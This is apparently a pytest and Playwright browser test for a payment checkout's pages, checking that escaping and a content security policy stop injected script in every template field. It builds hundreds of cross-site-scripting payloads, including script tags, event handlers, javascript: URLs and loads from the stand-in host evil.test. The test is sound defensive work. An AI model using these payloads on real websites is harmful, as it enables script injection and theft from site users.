"""Hostile words in every place of our pages where a word may stand, in a real browser.

Fifty frames a page. The controls turn the escaping off in the test's own copy of the templates: then
the words become nodes and the content security policy stops each of them (0 run); without the
policy too they run, so the detector can see.
"""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from playwright.async_api import BrowserContext
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Mount, Route
from starlette.staticfiles import StaticFiles

from naru.checkout import pages
from naru.domain.payment import Buyer, Payment
from naru.sandbox import app as sandbox_app
from naru.sandbox import door
from tests.attacks.conftest import Watched, watch
from tests.checkout.browser import serve
from tests.domain.test_payment import a_payment
from tests.support.scale import often

pytestmark = pytest.mark.asyncio(loop_scope="session")

BATCH = 50
CALLS = ["pwn(1)", "top.pwn(1)", "self['pwn'](1)", "fetch('http://evil.test/')", "alert(1)"]
# Out of the place where a word stands …
EXITS = [
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "--></textarea>",
    "]]>",
    "\u2028",
    "\\u003c",
]
# … into something that runs.
RUNS = [
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe src='javascript:parent.{c}'></iframe>",
    "<object data='javascript:{c}'></object>", "<embed src='javascript:{c}'>", "<body onload={c}>",
    "<input autofocus onfocus={c}>", "<details open ontoggle={c}>", "<video><source onerror={c}></video>",
    "<style>@import 'http://evil.test/x.css'</style>", "<base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>", "<link rel=stylesheet href='http://evil.test/'>",
    "<form action='http://evil.test/'><button id=x>", "<script src='http://evil.test/x.js'></script>",
    "<math><mtext><script>{c}</script></mtext></math>", "<template><script>{c}</script></template>",
    "onmouseover={c} autofocus onfocus={c} x=", "javascript:{c}//", "{{{{{c}}}}}", "${{{c}}}", "';{c};//", '";{c};//',
]  # fmt: skip


def payloads(count: int) -> list[str]:
    """So many different ones: exits x runs x calls, the plainest first."""
    every = (
        exit_ + run.format(c=call) for call, exit_, run in itertools.product(CALLS, EXITS, RUNS)
    )
    return list(itertools.islice(dict.fromkeys(every), count))


@dataclass
class Stage:
    """A server of frames: `/all/7` holds fifty frames, each with one payload in every sink."""

    origin: str
    sinks: int


def sinks(payment: Payment, word: str) -> list[dict[str, Any]]:
    """The gateway's pages with this word wherever a stranger's or a PG's word may stand."""
    account = SimpleNamespace(bank_name=word, number=word, holder=word)
    facts = {"mode": word, "request_id": word, "imp_uid": word, "page_origin": "http://evil.test",
             "next": "#", "final": True, "result": {"error_msg": word, "custom_data": {word: word}},
             "redirect_url": word, "poll": "#"}  # fmt: skip
    error = {"error_msg": word, "error_code": word}
    common: dict[str, Any] = {"payment": payment, "merchant_name": word, "facts": facts}
    done = common | {"template": "done.html", "error": error, "due": word}
    form = SimpleNamespace(action="/stay", charset="utf-8", fields={word: word})
    return [
        common | {"template": "window.html"},
        done | {"state": "failed", "account": None},
        done | {"state": "waiting", "account": account},
        common | {"template": "enter.html", "form": form, "form_action": "'self'"},
    ]


def slip(word: str) -> dict[str, Any]:
    """The PG's receipt, with this word in everything that a merchant or a buyer said."""
    return {"tid": word, "merchant_name": word, "item_name": word, "merchant_order_no": word,
            "amount": 1004, "cancelled": 0, "currency": "KRW", "pay_method": word, "means": word,
            "approval_number": word, "approved_at": 1_700_000_000}  # fmt: skip


def inbox(word: str) -> dict[str, Any]:
    return {"messages": [{"id": 1, "at": 1_700_000_000, "to": word, "text": word}]}


@asynccontextmanager
async def open_stage(
    words: list[str], payment: Payment, *, policy: bool = True
) -> AsyncIterator[Stage]:
    """`policy` False takes the content security policy away (a control)."""
    company = cast("Any", SimpleNamespace(templates=pg_templates))

    def render(word: str, sink: int) -> Response:
        mine = replace(payment, name=word, merchant_uid=cast("Any", word), buyer=Buyer(name=word),
                       page_origin="http://shop.test", window_mode="iframe", sandbox=True)  # fmt: skip
        gateway_sinks = sinks(mine, word)
        if sink < len(gateway_sinks):
            return pages.page(**gateway_sinks[sink])
        if sink == len(gateway_sinks):
            return door.render(company, "receipt.html", slip(word), "'self'")
        return door.render(company, "inbox.html", inbox(word), "'self'")

    async def one(request: Request) -> Response:
        answer = render(words[request.path_params["word"]], request.path_params["sink"])
        # Our stage frames them; who may frame is another test's matter.
        old = answer.headers["Content-Security-Policy"]
        answer.headers["Content-Security-Policy"] = old.replace("http://shop.test", "'self'")
        if not policy:
            del answer.headers["Content-Security-Policy"]
        return answer

    async def many(request: Request) -> Response:
        sink, first = request.path_params["sink"], request.path_params["first"]
        last = min(first + BATCH, len(words))
        frames = (f"<iframe src='/one/{sink}/{word}'></iframe>" for word in range(first, last))
        return HTMLResponse("<!doctype html>" + "".join(frames))

    async def stay(request: Request) -> Response:
        return Response(status_code=204)

    routes = [
        Route("/one/{sink:int}/{word:int}", one),
        Route("/all/{sink:int}/{first:int}", many),
        Mount("/static", StaticFiles(directory=Path(sandbox_app.__file__).parent / "static")),
        Route("/{path:path}", stay, methods=["GET", "POST"]),
    ]
    async with serve(Starlette(routes=routes)) as origin:
        yield Stage(origin, 6)


pg_templates = sandbox_app._templates()

# A page's own: its scripts have a nonce or come from its own server, and it frames nothing.
STRANGE = """(own) => { const seen = []; for (const frame of document.querySelectorAll("iframe")) {
  const inside = frame.contentDocument; if (!inside) continue;
  for (const node of inside.querySelectorAll("script,iframe,object,embed,base,meta[http-equiv],link"))
    if (!(node.nonce || own.includes(node.tagName))) seen.push(node.outerHTML);
  for (const node of inside.querySelectorAll("*")) for (const each of node.attributes)
    if (/^on/.test(each.name) || /^\\s*javascript:/i.test(each.value)) seen.push(node.outerHTML);
  } return seen.length; }"""


async def show(
    context: BrowserContext, stage: Stage, share: Callable[[int], tuple[int, int]]
) -> tuple[Watched, int]:
    """Load each sink's share of the words; what ran, what was stopped, and how many strange nodes stand in the pages."""
    page = await context.new_page()
    watched = await watch(page)
    strange = 0
    for sink in range(stage.sinks):
        own = ["LINK", "SCRIPT"] if sink >= 4 else []
        for first in range(*share(sink), BATCH):
            await page.goto(f"{stage.origin}/all/{sink}/{first}", wait_until="load")
            strange += await page.evaluate(STRANGE, own)
    await page.close()
    return watched, strange


@pytest.fixture
def payment() -> Payment:
    return a_payment()


async def test_hostile_words_stay_words_in_every_sink(
    context: BrowserContext, payment: Payment
) -> None:
    words = payloads(often(300, 1300))
    assert len(set(words)) == len(words) >= 300
    async with open_stage(words, payment) as stage:
        each = len(words) // stage.sinks

        def share(sink: int) -> tuple[int, int]:
            # By day every payload visits one sink, by night all of them.
            return often(sink * each, 0), often((sink + 1) * each, len(words))

        watched, strange = await show(context, stage, share)
    print(f"{len(words)} payloads, {stage.sinks} sinks: {len(watched.ran)} ran")
    assert (watched.ran, watched.blocked, strange) == ([], [], 0)


@pytest.mark.parametrize("policy", [True, False])
async def test_control_without_escaping_the_policy_stops_them_and_without_it_they_run(
    context: BrowserContext, payment: Payment, monkeypatch: pytest.MonkeyPatch, policy: bool
) -> None:
    words = payloads(26)
    # The test's own copies; a plain `autoescape` is all that differs.
    monkeypatch.setattr(pages, "_templates", pages._templates.overlay(autoescape=False))
    monkeypatch.setitem(globals(), "pg_templates", pg_templates.overlay(autoescape=False))
    async with open_stage(words, payment, policy=policy) as stage:
        watched, strange = await show(context, stage, lambda sink: (0, len(words)))
    print(
        f"escaping off, policy {'on' if policy else 'off'}: {strange} strange nodes, "
        f"{len(watched.blocked)} stopped, {len(watched.ran)} ran"
    )
    assert strange > 100
    if policy:
        assert len(watched.blocked) > 100
        # No policy speaks about where <meta refresh> leads: that one stays the escaping's alone.
        assert set(watched.ran) <= {"http://evil.test/refresh"}
    else:
        assert watched.blocked == []
        assert len(watched.ran) > 100
